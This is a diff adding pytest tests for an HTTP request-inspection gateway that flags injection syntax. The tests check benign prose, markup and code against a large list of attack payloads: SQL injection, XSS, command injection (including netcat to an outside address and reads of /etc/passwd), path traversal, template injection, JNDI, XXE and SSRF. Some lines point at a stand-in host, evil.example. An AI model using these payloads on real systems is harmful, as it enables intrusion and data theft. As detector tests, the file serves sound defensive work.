@@ -2,9 +2,16 @@
 
 from __future__ import annotations
 
+import json
+from collections.abc import Iterator
+from pathlib import Path
+from urllib.parse import quote
+
 import pytest
 
-from gateway.witness import KIND_SHARE, SYNTAX, named_kinds, syntax_witness, values
+from gateway.features import Features
+from gateway.payload.decoding import variants
+from gateway.witness import KIND_SHARE, MAX_CHARS, SYNTAX, named_kinds, syntax_witness, values
 from tests.conftest import make_features
 
 KINDS = ("sqli", "xss", "traversal", "cmdi", "other")
@@ -20,10 +27,33 @@ PLAIN = [
 ]
 
 
-@pytest.mark.parametrize("value", PLAIN)
+# what people write in searches, comments, posts and documentation: prose with its punctuation, the markup a rich-text
+# editor posts, code quoted in a post. None of it breaks out of where it lands.
+PEOPLE = [
+    "don't", "O'Reilly's book", "it's (not) a drill", "we're here, they've gone, I'd say I'm done", "rock'n'roll", "l'été",
+    "the users' and admins' rights", "issue #12", "a; b", "C# and F#", "Tom & Jerry", "Q&A", "R&D; AT&T | Verizon",
+    "cats & dogs; birds | fish", "wait... what?", "etc.", "Cheers -- Ana", "2010--2020", "Select all that apply (select one)",
+    "\"Hello,\" she said. \"Or not.\"", "'single' and \"double\" quotes", "it installs into /usr/local/bin and ~/.config",
+    "echo chamber", "sleep 8 hours", "ping me at 5pm", "cat lovers & dog people", "type here; then press enter", "x < y and y > z",
+    "50% off", "I <3 this", "JavaScript: The Good Parts", "a regular expression (regex)", "the onload= attribute is not allowed",
+    "Hello,\r\nLocation: Berlin\r\nThanks", "line one\nline two\n\nline four",
+    "<p>Hello <b>world</b>, don't <i>panic</i></p>", '<a href="https://example.org/docs?a=1&amp;b=2">the docs</a>',
+    '<img src="https://example.org/cat.png" alt="a cat">', "<ul><li>one</li><li>two &amp; three</li></ul>",
+    '<p align="center"><a href="https://example.org"><img src="https://img.example/badge.svg?label=ci&style=flat"></a></p>',
+    '<span style="color: red">x</span>', '<h2 id="install">Install</h2>', "<blockquote>it's fine</blockquote>",
+    '<img src="https://img.shields.io/badge/x-y?logo=data:image/svg%2bxml;base64,PHN2Zz4=">',
+    "print('hello')", "d['key'] = len(items)", "x = 'a' + 'b'", "','.join(names)", 'f("{0}", value)',
+    "SELECT name FROM users WHERE id = %s", "run `ls -la` to list files", "```bash\npip install clefgate\n```",
+    "```python\nfrom time import sleep\nsleep(0.1)\n```", "$ pip install clefgate", "if (a && b) { run(); }",
+    "{{ user.name }} and {% for x in items %}", "${HOME} is your home", 'click.option("--count", default=1)',
+    '{"id": "antergos", "like": "arch", "where": "here"}', "// a JavaScript comment", "0x7f3a2b1c", "@@ -1,3 +1,4 @@",
+]
+
+
+@pytest.mark.parametrize("value", PLAIN + PEOPLE)
 def test_a_value_in_plain_words_holds_no_kind_s_syntax(value: str) -> None:
     for kind in (*KINDS, "probe"):
-        assert SYNTAX[kind].search(value) is None, (kind, value)
+        assert SYNTAX[kind].search(value) is None, (kind, value, SYNTAX[kind].search(value))
 
 
 @pytest.mark.parametrize("kind,value", [
@@ -46,6 +76,47 @@ def test_a_value_in_plain_words_holds_no_kind_s_syntax(value: str) -> None:
 ])
 def test_each_kind_finds_its_own_syntax_and_a_probe_finds_any(kind: str, value: str) -> None:
     assert SYNTAX[kind].search(value) is not None and SYNTAX["probe"].search(value) is not None
+
+
+# the breakouts of each kind, glued or spaced, as the lists scanners and people who test applications carry them
+BREAKOUTS = {
+    "sqli": ["x'or'1'='1", "1' or '1'='1", "admin'--", "admin'#", "admin' -- -", "1')or('1'='1", "') or ('a'='a", "1' union select null--",
+             "1'union select 1,2", "-1 union/**/select 1,2", "1/*!50000union*/select 1", "1 or 1=1", "1 and 1=2", "1or1=1",
+             "1 and 'a'='a'", "1;drop table users", "1; exec xp_cmdshell 'dir'", "1' and sleep(5)#", "1 and sleep(5)",
+             "1 and ascii(substring(user(),1,1))>64", "1 and (select 1 from dual)", "1 order by 3--", "1 or @@version",
+             "0x61646d696e", "1' || '1'='1", "'+sleep(5)+'", "\"or\"\"=\"", "' or true--", "1;waitfor delay '0:0:5'",
+             "' having 1=1--", "it's' or 1=1--", "Robert'); DROP TABLE Students;--", "'", "'))", "1 or x=x"],
+    "xss": ['"><svg onload=alert(1)>', "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<body onload=alert(1)>",
+            "<details open ontoggle=alert(1)>", "<x onclick=alert(1)>click", "<iframe src=javascript:alert(1)>",
+            '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<base href="//evil.example/">',
+            '<form action="//evil.example"><button>go</button></form>', "<style>@import 'http://evil.example/x.css';</style>",
+            "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x", '" onmouseover=alert(1) x="',
+            "';alert(1)//", '"-alert(1)-"', "'+alert(1)+'", "javascript:alert(1)", "java\tscript:alert(1)",
+            "data:text/html,<script>alert(1)</script>", "</script><script>alert(1)</script>", "</title><svg/onload=alert(1)>",
+            "</textarea><img src=x onerror=alert(1)>", "{{constructor.constructor('alert(1)')()}}", "\\x3cscript\\x3ealert(1)",
+            "&lt;script&gt;alert(1)&lt;/script&gt;", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "alert`1`", "+ADw-script+AD4-"],
+    "cmdi": ["1;ls -la", ";id", "| id", "|id|", "&& whoami", "|| whoami", "& ping -n 3 127.0.0.1", "$(whoami)", "`id`", "x`id`",
+             "a;cat /etc/passwd", "127.0.0.1|nc 10.0.0.1 4444", "127.0.0.1\nid", "x > /tmp/out", "x 2>&1", ";${IFS}cat${IFS}/etc/passwd",
+             "ping -c 3 127.0.0.1", "cat /etc/passwd", "; net user", "() { :;}; echo vulnerable", "system('id')", ";sleep 5",
+             "& dir c:\\", "%0aid"],
+    "traversal": ["../../etc/passwd", "....//....//etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "..%2f..%2fetc%2fpasswd",
+                  "%2e%2e%2f", "..%c0%af..%c0%afetc/passwd", "file:///etc/passwd", "/proc/self/environ", "C:\\boot.ini", "\\\\evil\\share"],
+    "other": ["{{7*7}}", "${7*7}", "{{config.items()}}", "{{''.__class__.__mro__}}", "<%= 7*7 %>", "#{7*7}", "${jndi:ldap://x/a}",
+              "${${lower:j}ndi:ldap://x/a}", "<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "%0d%0aSet-Cookie:x=1",
+              "//evil.example", "/\\evil.example", "https://evil.example/", "http://127.0.0.1:22", "gopher://127.0.0.1:6379/_",
+              "http://good.example@evil.example", "[$ne]=1", '{"$gt": ""}', "'; return true; var x='", "*)(uid=*", "*)(|(mail=*))",
+              "' or count(/*)=1 or '", "O:8:\"stdClass\":0:{}", "rO0ABXNyABFq", "!!python/object/apply:os.system ['id']",
+              "__proto__[admin]=1", "<!--#exec cmd=\"id\"-->"],
+}
+
+
+@pytest.mark.parametrize("kind,value", [(kind, value) for kind, values in BREAKOUTS.items() for value in values])
+def test_each_kind_s_breakouts_are_its_syntax_glued_or_spaced(kind: str, value: str) -> None:
+    assert SYNTAX[kind].search(value) is not None, (kind, value)
+    # as the client sends it in a query, percent-encoded, it is found in the value the application reads
+    f = make_features(target="/p?v=" + quote(value, safe=""))
+    witness = syntax_witness(f, (kind,))
+    assert witness is not None and witness.location == "query:v" and witness.kind == kind
 
 
 def test_the_kinds_named_are_the_top_one_and_those_with_a_fifth_of_the_answer() -> None:
@@ -90,7 +161,7 @@ def test_the_witness_names_the_value_that_holds_the_syntax(target: str, headers:
 
 
 def test_a_kind_finds_only_its_own_syntax() -> None:
-    f = make_features(target="/search?q=it%27s+(not)+a+drill")
+    f = make_features(target="/search?q=it%27s%27+or+(1)%3D(1)")
     assert syntax_witness(f, ("xss",)) is None and syntax_witness(f, ("traversal", "cmdi")) is None
     assert syntax_witness(f, ("xss", "sqli")) is not None
 
@@ -123,3 +194,58 @@ def test_a_cookie_that_carries_an_injection_still_witnesses_it(cookie: str, kind
     f = make_features(target="/products/12", headers=[("Host", "shop.example"), ("Cookie", cookie)])
     witness = syntax_witness(f, (kind,))
     assert witness is not None and witness.location.startswith("cookie:")
+
+
+# the corpora the model is trained on, read as data: the attack lists (models/corpus/data/payloads.json) and the
+# documentation posts rendered from installed packages' README text (apps-rendered-posts.json, made of prose, markup and code)
+DATA = Path(__file__).resolve().parents[2] / "models" / "corpus" / "data"
+COARSE = {"sqli": "sqli", "xss": "xss", "traversal": "traversal", "lfi": "traversal", "cmdi": "cmdi"}
+
+
+_FILLED = {"XXpathXX": "http://evil.example/shell.txt?", "{target}": "evil.example", "[ATTACKER.DOMAIN.TLD]": "evil.example",
+           "{FILE}": "etc/passwd", "{FILE_NAME}": "etc/passwd", "{cmd}": "id"}
+
+
+def _attack(family: str, text: str) -> Features:
+    """A list entry where the corpus puts it: a remote-include target as the request, an XML document as the body, the
+    rest as a query value (kept as written when it is already percent-encoded, else encoded)."""
+    for placeholder, value in _FILLED.items():
+        text = text.replace(placeholder, value)
+    if family == "ssrf" and text.startswith("/") and "?" in text:
+        return make_features(target=quote(text, safe="/?=&;:@+,$%[]"))
+    if family == "xxe":
+        return make_features(method="POST", target="/upload", headers=[("Host", "h"), ("Content-Type", "application/xml")], body=text.encode())
+    encoded = "%" in text and text.isascii() and text.isprintable() and not any(c in text for c in " #&")
+    return make_features(target="/p?v=" + (text if encoded else quote(text, safe="")))
+
+
+def _witnessed(kind: str, text: str) -> bool:
+    return any(SYNTAX[kind].search(t) is not None for t, _ in variants(text[:MAX_CHARS], plus=False))
+
+
+def _leaves(node: object) -> Iterator[str]:
+    if isinstance(node, str):
+        yield node
+    elif isinstance(node, dict):
+        for child in node.values():
+            yield from _leaves(child)
+    elif isinstance(node, list):
+        for child in node:
+            yield from _leaves(child)
+
+
+def test_the_attack_lists_keep_their_witness_and_documentation_posts_hold_almost_none() -> None:
+    lists: dict[str, dict[str, list[str]]] = json.loads((DATA / "payloads.json").read_text())
+    for kind in ("sqli", "xss", "traversal", "cmdi", "other"):
+        entries = [(family, t) for families in lists.values() for family, items in families.items()
+                   if COARSE.get(family, "other") == kind and family != "probe" for t in items]
+        share = sum(syntax_witness(_attack(family, t), (kind,)) is not None for family, t in entries) / len(entries)
+        # what the lists hold without a breakout (a bare keyword, a closing tag, a placeholder, plain markup) is challenged
+        assert share >= 0.95, (kind, share)
+    posts = json.loads((DATA / "apps-rendered-posts.json").read_text())["shapes"]
+    values = [v for shape in posts for v in _leaves(shape["body"])
+              if len(v) >= 20]
+    assert len(values) > 1000
+    for kind in (*KINDS, "probe"):
+        share = sum(_witnessed(kind, v) for v in values) / len(values)
+        assert share <= (0.05 if kind == "probe" else 0.03), (kind, share)
